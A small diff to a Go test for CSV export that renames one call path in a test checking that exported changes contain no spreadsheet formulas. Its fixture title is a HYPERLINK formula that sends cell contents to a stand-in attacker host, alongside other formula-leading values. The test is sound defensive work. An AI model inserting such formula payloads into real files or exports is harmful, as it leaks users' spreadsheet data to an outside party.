@@ -43,7 +43,7 @@ func TestW12ExportIsWhole(t *testing.T) {
 func TestW12NoFormulas(t *testing.T) {
 	r := newRig(t)
 	title := `=HYPERLINK("https://evil.example/?"&A1)`
-	must(t, r.v.Registry.Feed.Publish(t.Context(), feed.Group{ID: "g", Changes: []feed.Change{{At: r.now,
+	must(t, r.v.Feed.Publish(t.Context(), feed.Group{ID: "g", Changes: []feed.Change{{At: r.now,
 		Kind: feed.Content, ItemID: "1", Title: title, Passages: []feed.Passage{{Text: "+1, \"x\"\n-1", Op: "added"},
 			{Text: "＝1", Op: "removed"}}}}}))
 	rows, err := csv.NewReader(do(t, r, "GET", "/api/export/changes", "").Body).ReadAll()
